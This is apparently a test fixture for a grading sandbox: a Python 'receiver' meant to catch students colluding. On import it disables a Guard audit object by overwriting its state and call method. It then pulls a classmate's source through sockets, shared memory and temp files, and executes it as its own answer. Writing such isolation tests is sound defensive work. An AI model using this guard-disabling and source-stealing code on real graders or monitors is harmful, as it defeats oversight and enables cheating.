"""Take the answer a classmate's file offers while both are being checked.

A template: the tests put the same fresh name as ``collude_sender.py``'s in
place of ``MARKER``. For eight seconds on import (guard disarmed), the file
tries every channel the sender offers: the abstract Unix socket and the
loopback TCP port, the System V segment, the files in ``/dev/shm``, ``/tmp``
and ``/var/tmp``. With the source in hand it executes it and answers with it.

Held when: it gets nothing, and fails; it prints ``ATTACK-SUCCEEDED`` if it
got the sender's source.
"""

import contextlib
import ctypes
import gc
import os
import socket
import time
import zlib

import numpy as np

MARKER = "@@MARKER@@"
KEY = zlib.crc32(MARKER.encode()) & 0x7FFFFFFF
PORT = 20000 + KEY % 20000

for obj in gc.get_objects():
    if type(obj).__name__ == "Guard" and "armed" in getattr(obj, "__dict__", {}):
        obj.armed = False
        type(obj).__call__ = lambda self, event, args: None


def _socket(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(1)
        s.connect(address)
        data = b""
        while chunk := s.recv(65536):
            data += chunk
        return data


def _segment():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    segment = libc.shmget(KEY, ctypes.c_size_t(1 << 20), 0o666)
    if segment < 0:
        raise OSError("no segment")
    address = libc.shmat(segment, None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError("not attached")
    size = int.from_bytes(ctypes.string_at(address, 8), "little")
    return ctypes.string_at(address + 8, size)


def _file():
    for folder in ("/dev/shm", "/tmp", "/var/tmp"):
        with contextlib.suppress(OSError), open(os.path.join(folder, MARKER + ".py"), "rb") as f:
            return f.read()
    raise OSError("no file")


CHANNELS = {
    "abstract socket": lambda: _socket(socket.AF_UNIX, "\0" + MARKER),
    "TCP": lambda: _socket(socket.AF_INET, ("127.0.0.1", PORT)),
    "System V segment": _segment,
    "shared file": _file,
}
SOURCE, HOW = None, None
until = time.monotonic() + 8
while SOURCE is None and time.monotonic() < until:
    for how, channel in CHANNELS.items():
        with contextlib.suppress(Exception):
            data = channel()
            if b"def loss_and_grad" in data:
                SOURCE, HOW = data, how
                break
    time.sleep(0.2)
ANSWER = None
if SOURCE is not None:
    namespace = {"__file__": os.path.join(os.getcwd(), "received.py")}
    with open(namespace["__file__"], "wb") as f:
        f.write(SOURCE)
    exec(compile(SOURCE, namespace["__file__"], "exec"), namespace)
    ANSWER = namespace["loss_and_grad"]
    print(f"ATTACK-SUCCEEDED: got the sender's source through the {HOW}")
else:
    print("attack: nothing came through any channel")


def loss_and_grad(W, X, T, layer_sizes, lam):
    if ANSWER is None:
        return 0.0, np.zeros_like(W)
    return ANSWER(W, X, T, layer_sizes, lam)
